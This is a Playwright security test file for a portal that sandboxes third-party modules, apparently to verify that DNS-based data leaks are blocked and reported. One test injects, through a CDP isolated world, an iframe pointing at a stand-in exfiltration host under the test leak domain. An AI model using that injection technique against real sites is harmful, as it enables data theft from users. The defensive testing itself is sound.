// A script tries to carry data away in the names of hosts. Nothing is looked up, the module ends, and the operator is warned.
import { expect, type Frame, type Page, test as base } from '@playwright/test';
import { type HostilePortal, leakDomain, startHostilePortal, victim } from '#tests/web/support/portals/hostile-portal.ts';
import { closedWays, leakyScripts } from '#tests/web/support/portals/leaky-scripts.ts';
import { signIn } from '#tests/web/support/signed-in.ts';
import { watchBrowser } from '#tests/web/support/watched-browser.ts';

const test = base.extend<object, { hostile: HostilePortal }>({
  hostile: [
    // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of the fixtures from the parameter
    async ({}, use) => {
      const portal = await startHostilePortal();
      await use(portal);
      await portal.close();
    },
    { scope: 'worker', timeout: 90_000 },
  ],
});

const place = (hostile: HostilePortal, item: string) => `${hostile.url}/dashboard/ataques/${item}`;
const ended = (page: Page) => page.getByRole('alert').getByRole('heading', { name: 'O módulo saiu do ar' });
async function frameOf(page: Page): Promise<Frame> {
  const frame = await (await page.locator('iframe').elementHandle())?.contentFrame();
  if (!frame) throw new Error('There is no module frame.');
  return frame;
}
const moduleTitle = (page: Page, name: string) => page.frameLocator('iframe').getByRole('heading', { level: 1, name });

const alarmsOf = async (hostile: HostilePortal, item: string) =>
  (await hostile.activities()).filter(
    ({ pointer, detail }) => pointer === 'seguranca.alarme.disparar' && detail['itemId'] === item,
  );

/** Those that the page of the person raised. The browser raises its own besides. */
const pageAlarmsOf = async (hostile: HostilePortal, item: string) =>
  (await alarmsOf(hostile, item)).filter(({ detail }) => detail['reportedBy'] === 'portal');

test('no name is looked up and the operator is warned, whichever way a script tries', async ({ hostile }) => {
  test.slow();
  const browser = await watchBrowser();
  await signIn(browser.context, hostile.url, victim);
  const page = await browser.context.newPage();
  for (const item of Object.keys(leakyScripts)) {
    await page.goto(place(hostile, item));
    await expect(ended(page), item).toBeVisible();
    await expect.poll(() => pageAlarmsOf(hostile, item), item).toHaveLength(1);
  }
  for (const item of Object.keys(closedWays)) {
    await page.goto(place(hostile, item));
    await expect(moduleTitle(page, 'Nada'), item).toBeVisible();
  }
  expect(await browser.lookups(leakDomain)).toEqual([]);
});

test('the browser’s list of connections covers what no policy does: where the frame itself goes', async ({ hostile }) => {
  const browser = await watchBrowser(['--enable-features=ConnectionAllowlists,OverrideConnectionAllowlistOriginTrial']);
  const major = Number(browser.context.browser()?.version().split('.')[0]);
  await signIn(browser.context, hostile.url, victim);
  const page = await browser.context.newPage();
  await page.goto(place(hostile, 'vaza-ao-sair'));
  await expect(ended(page)).toBeVisible();
  await expect.poll(() => pageAlarmsOf(hostile, 'vaza-ao-sair')).toHaveLength(1);
  await page.goto(place(hostile, 'honesto'));
  await expect(moduleTitle(page, 'Tudo certo')).toBeVisible();
  // Chromium has the list since 148.
  expect(await browser.lookups(leakDomain)).toHaveLength(major >= 148 ? 0 : 1);
});

test('a frame that came to be in spite of the runtime ends the module, by the word of the page and of the browser', async ({
  page,
  context,
  hostile,
}) => {
  await signIn(context, hostile.url, victim);
  const reports: unknown[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/module-frame/report') reports.push(request.postDataJSON());
  });
  await page.goto(place(hostile, 'honesto'));
  await expect(moduleTitle(page, 'Tudo certo')).toBeVisible();
  const module = await frameOf(page);
  // A world of its own has the built-ins of the browser: what a hole in the runtime would give a script.
  const cdp = await context.newCDPSession(module);
  const { frameTree } = await cdp.send('Page.getFrameTree');
  const { executionContextId } = await cdp.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
  const expression = `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://ana.furo.${leakDomain}/' }))`;
  await cdp.send('Runtime.evaluate', { expression, contextId: executionContextId });
  await expect(ended(page)).toBeVisible();
  await expect
    .poll(async () => (await pageAlarmsOf(hostile, 'honesto')).map(({ detail }) => detail))
    .toMatchObject([{ name: 'module-violation', directive: 'frame-src', target: `http://….${leakDomain}` }]);
  await expect.poll(() => reports).toMatchObject([{ 'csp-report': { 'effective-directive': 'frame-src' } }]);
});

test('a mistake of an author is stopped and written down, and the module goes on', async ({ page, context, hostile }) => {
  await signIn(context, hostile.url, victim);
  await page.goto(place(hostile, 'imagem-de-fora'));
  await expect(moduleTitle(page, 'Segue em frente')).toBeVisible();
  await expect(page.locator('[data-module-state="running"]')).toBeVisible();
  expect(await alarmsOf(hostile, 'imagem-de-fora')).toEqual([]);
});
